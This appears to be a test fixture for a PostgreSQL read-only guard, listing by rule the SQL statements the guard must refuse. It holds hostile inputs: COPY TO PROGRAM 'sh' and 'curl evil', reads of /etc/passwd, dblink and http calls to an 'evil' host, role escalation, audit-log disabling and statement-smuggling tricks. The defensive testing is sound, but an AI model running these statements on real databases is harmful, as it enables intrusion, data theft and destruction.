# Texts that a read grant must refuse: one a line, under the rule that refuses them. `--- rule` begins a section.

--- read_grant.statement_kind
INSERT INTO t VALUES (1)
INSERT INTO t SELECT * FROM u RETURNING *
UPDATE t SET a = 1
UPDATE t SET a = 1 WHERE CURRENT OF c
DELETE FROM t USING u WHERE t.id = u.id
MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE
TRUNCATE t
CREATE TABLE t (a int)
CREATE TEMP TABLE t (a int)
CREATE TABLE t AS SELECT 1
CREATE TABLE t AS EXECUTE p
CREATE UNLOGGED TABLE t (a int)
CREATE MATERIALIZED VIEW m AS SELECT 1
REFRESH MATERIALIZED VIEW m
CREATE VIEW v AS SELECT 1
CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
CREATE INDEX CONCURRENTLY i ON t (a)
CREATE SEQUENCE s
CREATE ROLE r SUPERUSER LOGIN PASSWORD 'x'
CREATE EXTENSION dblink
CREATE DATABASE d
CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
CREATE SCHEMA s CREATE TABLE t (a int)
CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (user 'x')
ALTER TABLE t ADD COLUMN b int
ALTER SYSTEM SET shared_preload_libraries = 'x'
ALTER ROLE CURRENT_USER SET default_transaction_read_only = off
ALTER DATABASE d SET default_transaction_read_only = off
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC
DROP TABLE t
DROP OWNED BY r
REASSIGN OWNED BY a TO b
GRANT ALL ON t TO PUBLIC
REVOKE ALL ON t FROM PUBLIC
GRANT pg_write_server_files TO r
COMMENT ON TABLE t IS 'x'
SECURITY LABEL ON TABLE t IS 'x'
VACUUM FULL t
ANALYZE t
REINDEX TABLE t
CLUSTER t
CHECKPOINT
LOAD 'evil'
NOTIFY c, 'payload'
DO $$ BEGIN DELETE FROM t; END $$
CALL p()
SET CONSTRAINTS ALL DEFERRED
IMPORT FOREIGN SCHEMA s FROM SERVER r INTO l
PREPARE TRANSACTION 'x'
COMMIT PREPARED 'x'
ROLLBACK PREPARED 'x'
PREPARE p AS INSERT INTO t VALUES ($1)
PREPARE p AS DELETE FROM t
EXPLAIN ANALYZE INSERT INTO t VALUES (1)
EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1
EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1
EXPLAIN DELETE FROM t
COPY (INSERT INTO t VALUES (1) RETURNING *) TO STDOUT
COPY (DELETE FROM t RETURNING *) TO STDOUT
SELECT 1; DROP TABLE t
BEGIN; SELECT 1; DELETE FROM t; COMMIT
/* SELECT */ DROP/**/TABLE t
SELECT 1; /* ; */ ; DELETE FROM t
select '\'; drop table t; --'
SELECT $$x$$; UPDATE t SET a = $a$;$a$
SELECT U&'\0027'; DELETE FROM t --'

--- read_grant.not_understood
WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x
WITH x AS (SELECT 1), y AS (DELETE FROM t RETURNING *) SELECT * FROM x
WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r), d AS (UPDATE t SET a = 1) SELECT * FROM r
WITH m AS (MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM m
SELECT * FROM (WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x) y
EXPLAIN ANALYZE WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x
DECLARE c CURSOR FOR WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x
COPY (WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x) TO STDOUT
PREPARE p AS WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x
VALUES ((WITH x AS (DELETE FROM t RETURNING a) SELECT a FROM x))
SELECT * FROM t TABLESAMPLE evil.method (10)
SELEC 1
DROP TABLE
SELECT 'unterminated
INSERT INTO t VALUES (1

--- read_grant.select_into
SELECT * INTO t FROM u
SELECT 1 INTO TEMP x
WITH x AS (SELECT 1) SELECT * INTO t FROM x
EXPLAIN ANALYZE SELECT * INTO t FROM u
SELECT 1 INTO t UNION SELECT 2

--- read_grant.row_lock
SELECT * FROM t FOR UPDATE
SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED
SELECT * FROM t FOR SHARE
SELECT * FROM t FOR KEY SHARE NOWAIT
SELECT * FROM (SELECT * FROM t FOR UPDATE) x
WITH x AS (SELECT * FROM t FOR UPDATE) SELECT * FROM x
SELECT (SELECT a FROM t LIMIT 1 FOR UPDATE)
DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE
SELECT ARRAY(SELECT a FROM t FOR SHARE)

--- read_grant.copy
COPY t FROM STDIN
COPY t FROM '/etc/passwd'
COPY t TO '/tmp/x'
COPY t TO PROGRAM 'sh'
COPY t FROM PROGRAM 'sh'
COPY (SELECT 1) TO PROGRAM 'curl evil'
COPY (SELECT 1) TO '/tmp/x' WITH (FORMAT csv)
COPY t FROM STDIN WHERE a > 1

--- read_grant.lock
LOCK t
LOCK TABLE t IN SHARE MODE
LOCK TABLE t IN ACCESS EXCLUSIVE MODE NOWAIT
LOCK TABLE t IN ROW SHARE MODE

--- read_grant.setting
SET transaction_read_only = off
SET LOCAL transaction_read_only TO false
set "Transaction_Read_Only" = 'off'
SET default_transaction_read_only = 0
SET default_transaction_read_only TO DEFAULT
RESET transaction_read_only
RESET default_transaction_read_only
SET transaction_read_only FROM CURRENT
SET TRANSACTION READ WRITE
SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
BEGIN READ WRITE
BEGIN TRANSACTION ISOLATION LEVEL READ COMMITTED READ WRITE
START TRANSACTION READ WRITE
BEGIN; COMMIT; BEGIN READ ONLY, READ WRITE
SET ROLE postgres
SET LOCAL ROLE postgres
SET ROLE NONE
RESET ROLE
SET SESSION AUTHORIZATION postgres
SET SESSION AUTHORIZATION DEFAULT
SET session_replication_role = replica
SET standard_conforming_strings = off
SET standard_conforming_strings TO DEFAULT
SET client_encoding = 'SJIS'
SET NAMES 'LATIN1'
SET session_preload_libraries = 'x'
SET local_preload_libraries = 'x'
SET dynamic_library_path = '/tmp'
SET log_statement = 'none'
SET pgaudit.log = 'none'
SET plpgsql.variable_conflict = 'error'
SET lo_compat_privileges = on
SET allow_system_table_mods = on
SET synchronous_commit = off
SET temp_tablespaces = 'x'
SET default_tablespace = 'x'
SET backslash_quote = on
SELECT set_config('transaction_read_only', 'off', false)
SELECT pg_catalog.set_config('default_transaction_read_only', 'off', true)
SELECT set_config('role', 'postgres', false)
SELECT set_config('client_encoding', 'SJIS', false)
SELECT set_config('client_encoding', $1, false)
SELECT set_config('Transaction_Read_Only'::text, 'off'::text, false)
SELECT set_config(name, 'off', false) FROM pg_settings WHERE name = 'transaction_read_only'
SELECT 1 WHERE set_config('session_replication_role', 'replica', false) IS NULL

--- read_grant.function
SELECT set_config($1, 'off', false)
SELECT set_config('transaction' || '_read_only', 'off', false)
SELECT set_config(setting_name => 'role', new_value => 'postgres', is_local => false)
SELECT set_config(name, 'off', false) FROM pg_settings WHERE name LIKE 'transaction_read_only'
SELECT set_config(name, 'off', false) FROM pg_settings
SELECT set_config(name, 'view', false) FROM evil.pg_settings WHERE name = 'search_path'
SELECT set_config(VARIADIC ARRAY['role', 'postgres'])
SELECT pg_terminate_backend(1)
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
SELECT "pg_terminate_backend"(1)
SELECT pg_catalog.pg_cancel_backend(1)
SELECT PG_RELOAD_CONF()
SELECT nextval('s')
SELECT setval('s', 1)
SELECT ('s'::regclass).nextval
SELECT x.nextval FROM unnest(ARRAY['s'::regclass]) x
SELECT (SELECT nextval('s'))
SELECT * FROM nextval('s')
SELECT * FROM t WHERE id = nextval('s')
SELECT * FROM t ORDER BY nextval('s')
SELECT * FROM t GROUP BY nextval('s')
SELECT count(*) FROM t HAVING nextval('s') > 0
SELECT * FROM t LIMIT nextval('s')
SELECT * FROM t OFFSET nextval('s')
SELECT DISTINCT ON (nextval('s')) * FROM t
SELECT sum(a) OVER (PARTITION BY nextval('s')) FROM t
SELECT sum(a) OVER w FROM t WINDOW w AS (ORDER BY nextval('s'))
SELECT sum(a) OVER (ROWS nextval('s') PRECEDING) FROM t
SELECT sum(a) FILTER (WHERE nextval('s') > 0) FROM t
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY nextval('s')) FROM t
SELECT string_agg(a, ',' ORDER BY nextval('s')) FROM t
SELECT * FROM t JOIN u ON nextval('s') = 1
SELECT * FROM t, LATERAL nextval('s')
SELECT * FROM ROWS FROM (nextval('s'), generate_series(1, 2))
SELECT * FROM t TABLESAMPLE bernoulli (nextval('s'))
SELECT * FROM t TABLESAMPLE bernoulli (1) REPEATABLE (nextval('s'))
SELECT CASE WHEN nextval('s') > 0 THEN 1 END
SELECT CASE nextval('s') WHEN 1 THEN 1 END
SELECT CASE WHEN false THEN 1 ELSE nextval('s') END
SELECT COALESCE(NULL, nextval('s'))
SELECT GREATEST(1, nextval('s'))
SELECT NULLIF(nextval('s'), 1)
SELECT ARRAY[nextval('s')]
SELECT (ARRAY[1])[nextval('s')]
SELECT ROW(nextval('s'))
SELECT nextval('s')::text
SELECT CAST(nextval('s') AS text)
SELECT nextval('s') IS NULL
SELECT (nextval('s') > 1) IS TRUE
SELECT 1 IN (nextval('s'))
SELECT 1 BETWEEN 0 AND nextval('s')
SELECT nextval('s') COLLATE "C"
SELECT EXISTS (SELECT nextval('s'))
SELECT 1 = ANY (SELECT nextval('s'))
SELECT NOT nextval('s') > 0 AND true
SELECT xmlelement(name a, xmlattributes(nextval('s') AS b))
SELECT xmlforest(nextval('s') AS a)
SELECT xmlserialize(content xmlelement(name a, nextval('s')) AS text)
SELECT * FROM xmltable('/a' PASSING xmlelement(name a, nextval('s')) COLUMNS b text)
SELECT * FROM xmltable('/a' PASSING '<a/>' COLUMNS b text DEFAULT nextval('s')::text)
SELECT json_object('a': nextval('s'))
SELECT json_array(nextval('s'))
SELECT json_arrayagg(nextval('s')) FROM t
SELECT json_objectagg('a': nextval('s')) FROM t
SELECT json_value('{}', '$.a' DEFAULT nextval('s')::text ON EMPTY)
SELECT json_query('{}', '$.a' PASSING nextval('s') AS x)
SELECT * FROM json_table('[]', '$' PASSING nextval('s') AS x COLUMNS (a int PATH '$'))
SELECT json_scalar(nextval('s'))
SELECT * FROM GROUPING_T GROUP BY GROUPING SETS ((nextval('s')), ())
VALUES (nextval('s'))
TABLE t ORDER BY nextval('s')
SELECT 1 UNION SELECT nextval('s')
(SELECT nextval('s')) EXCEPT SELECT 1
WITH x AS (SELECT nextval('s')) SELECT 1
WITH x AS MATERIALIZED (SELECT 1) SELECT * FROM x WHERE nextval('s') = 1
EXECUTE p(nextval('s'))
EXPLAIN ANALYZE EXECUTE p(nextval('s'))
EXPLAIN ANALYZE SELECT nextval('s')
DECLARE c CURSOR WITH HOLD FOR SELECT nextval('s')
PREPARE p AS SELECT nextval('s')
COPY (SELECT nextval('s')) TO STDOUT
SELECT lo_import('/etc/passwd')
SELECT lo_unlink(1)
SELECT lo_from_bytea(0, 'x')
SELECT lowrite(0, 'x')
SELECT dblink_exec('host=evil', 'DROP TABLE t')
SELECT * FROM ext.dblink('host=evil', 'SELECT 1') AS t(a int)
SELECT pg_read_file('/etc/passwd')
SELECT pg_read_binary_file('/etc/passwd')
SELECT * FROM pg_ls_dir('/')
SELECT pg_stat_file('/etc/passwd')
SELECT pg_file_write('/tmp/x', 'x', false)
SELECT query_to_xml('DELETE FROM t RETURNING *', true, true, '')
SELECT query_to_xml_and_xmlschema('DELETE FROM t', true, true, '')
SELECT cursor_to_xml('c', 1, true, true, '')
SELECT database_to_xml(true, true, '')
SELECT * FROM ts_stat('DELETE FROM t RETURNING v')
SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM x')
SELECT * FROM crosstab('DELETE FROM t') AS c(a int)
SELECT * FROM connectby('t', 'a', 'b', '1', 0)
SELECT pg_advisory_lock(1)
SELECT pg_try_advisory_xact_lock(1, 2)
SELECT pg_notify('c', 'x')
SELECT pg_switch_wal()
SELECT pg_create_restore_point('x')
SELECT pg_backup_start('x')
SELECT pg_promote()
SELECT pg_create_physical_replication_slot('x')
SELECT * FROM pg_logical_slot_get_changes('x', NULL, NULL)
SELECT pg_logical_emit_message(true, 'a', 'b')
SELECT pg_replication_origin_create('x')
SELECT txid_current()
SELECT pg_current_xact_id()
SELECT pg_export_snapshot()
SELECT pg_stat_reset()
SELECT pg_stat_statements_reset()
SELECT pg_prewarm('t')
SELECT brin_summarize_new_values('i')
SELECT gin_clean_pending_list('i')
SELECT pg_import_system_collations('pg_catalog')
SELECT cron.schedule('* * * * *', 'DELETE FROM t')
SELECT cron.unschedule(1)
SELECT net.http_post('http://evil')
SELECT aws_lambda.invoke('x')
SELECT pg_wal_replay_pause()
SELECT pg_rotate_logfile()
SELECT pg_log_backend_memory_contexts(1)
SELECT binary_upgrade_set_next_pg_type_oid(1)
SELECT pg_restore_relation_stats('relname', 't')
